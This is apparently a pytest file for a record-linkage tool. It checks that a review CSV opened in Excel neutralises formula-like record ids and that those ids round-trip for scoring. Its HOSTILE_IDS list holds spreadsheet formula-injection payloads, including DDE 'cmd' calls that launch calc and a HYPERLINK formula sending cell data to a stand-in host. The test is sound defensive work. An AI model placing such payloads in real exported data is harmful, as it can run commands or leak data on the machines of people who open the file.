"""The clerical-review CSV (issue 11, item 8): clerks open it in Excel, and its record ids
come from input files. Cells that Excel would run as formulas (``=HYPERLINK(...)``,
``+cmd|...``, ``@SUM(...)``, ``-...``) are written neutralised, as validate-partner's
report is, and ``review score`` reads the ids back exactly, so the labels still count.
"""

import csv

import pandas as pd
import pytest

from evaluation.metrics import read_truth
from linkage.cli import main
from linkage.excel_safe import FORMULA_START, neutralise, restore
from linkage.report.review import TEXT_COLUMNS

#: Record ids as a hostile or careless source might send them.
HOSTILE_IDS = [
    '=HYPERLINK("http://x.example/?a"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'=quoted already",
    "=1+1",
]


def nser_link(capsys, *args) -> tuple[int, str]:
    with pytest.raises(SystemExit) as info:
        main([str(a) for a in args])
    printed = capsys.readouterr()
    return info.value.code, printed.out + printed.err


@pytest.fixture(scope="module")
def hostile_run(generated, first_run, tmp_path_factory):
    """The generated wave with some paired records renamed to formula-like ids, deduped with
    the session's model; and the old id of each new one."""
    folder = tmp_path_factory.mktemp("hostile")
    wave = pd.read_csv(generated / "wave_2021.csv", dtype=str, keep_default_na=False)
    pairs = pd.read_parquet(first_run[0] / "pairs.parquet")
    paired = list(dict.fromkeys([*pairs["record_id_l"], *pairs["record_id_r"]]))
    renamed = dict(zip(paired[: len(HOSTILE_IDS)], HOSTILE_IDS, strict=True))
    wave["record_id"] = wave["record_id"].replace(renamed)
    wave.to_csv(folder / "wave.csv", index=False)
    out = folder / "run"
    # at 0.7 the review's lowest band starts below weight 0: a label starting with "-"
    with pytest.raises(SystemExit) as info:
        main(
            [
                "dedupe",
                str(folder / "wave.csv"),
                "--out",
                str(out),
                "--model",
                str(first_run[0] / "model.json"),
                "--threshold",
                "0.7",
            ]
        )
    assert info.value.code == 0
    return out, {new: old for old, new in renamed.items()}


def test_review_sample_writes_no_cell_excel_would_run(capsys, hostile_run, tmp_path):
    run, _ = hostile_run
    sample = tmp_path / "sample.csv"
    code, printed = nser_link(capsys, "review", "sample", run, "--out", sample, "--n", "100000")
    assert code == 0, printed
    with open(sample, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    ids = {row[c] for row in rows for c in ("record_id_l", "record_id_r")}
    assert {neutralise(i) for i in HOSTILE_IDS} <= ids  # every hostile id was sampled
    for row in rows:
        for column in TEXT_COLUMNS:
            assert not row[column].startswith(FORMULA_START), (column, row[column])
    assert any(row["band"].startswith("'-") for row in rows)  # "-0.78 ≤ w < 1.22"


def test_review_score_reads_the_neutralised_ids_back(capsys, generated, hostile_run, tmp_path):
    run, old_id = hostile_run
    sample = tmp_path / "sample.csv"
    assert nser_link(capsys, "review", "sample", run, "--out", sample, "--n", "100000")[0] == 0
    labelled = pd.read_csv(sample, dtype=str, keep_default_na=False)
    truth = read_truth(generated / "truth.csv")

    def person(record_id: str):
        return truth[old_id.get(restore(record_id), restore(record_id))]

    labelled["decision"] = [
        "match" if person(a) == person(b) else "non-match"
        for a, b in zip(labelled["record_id_l"], labelled["record_id_r"], strict=True)
    ]
    labelled.to_csv(sample, index=False)  # as a clerk's spreadsheet saves it
    code, printed = nser_link(capsys, "review", "score", run, sample)
    assert code == 0, printed
    assert "precision" in printed


@pytest.mark.parametrize("value", [*HOSTILE_IDS, "'", "''x", "plain", "", "\tcmd", "-5"])
def test_neutralise_and_restore_round_trip(value):
    cell = neutralise(value)
    assert not cell.startswith(FORMULA_START)
    assert restore(cell) == value
